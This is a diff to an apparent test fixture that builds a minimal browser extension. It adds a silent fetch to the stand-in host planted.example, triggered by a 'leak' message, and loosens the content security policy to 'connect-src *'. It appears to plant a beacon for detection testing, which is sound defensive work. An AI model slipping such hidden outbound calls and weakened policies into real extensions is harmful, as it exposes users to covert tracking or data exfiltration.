@@ -5,7 +5,10 @@ import { join } from 'node:path';
 const FILES: Readonly<Record<string, string>> = {
   'background.js': `
     const api = globalThis.browser ?? chrome;
-    api.runtime.onMessage.addListener((message, sender, reply) => { reply('heard ' + message); });
+    api.runtime.onMessage.addListener((message, sender, reply) => {
+      if (message === 'leak') void fetch('http://planted.example/d').catch(() => {});
+      reply('heard ' + message);
+    });
     const register = async () => {
       const { origins } = await api.permissions.getAll();
       await api.scripting.unregisterContentScripts().catch(() => {});
@@ -43,7 +46,9 @@ export function tinyExtension(kind: 'chromium' | 'firefox'): string {
     options_ui: { page: 'options.html', open_in_tab: true },
     permissions: ['storage', 'scripting', 'activeTab'],
     optional_host_permissions: ['*://*/*'],
-    content_security_policy: { extension_pages: "default-src 'none'; script-src 'self'" },
+    content_security_policy: {
+      extension_pages: "default-src 'none'; script-src 'self'; connect-src *",
+    },
     background:
       kind === 'firefox' ? { scripts: ['background.js'] } : { service_worker: 'background.js' },
     browser_specific_settings: { gecko: { id: 'tiny@example.org' } },
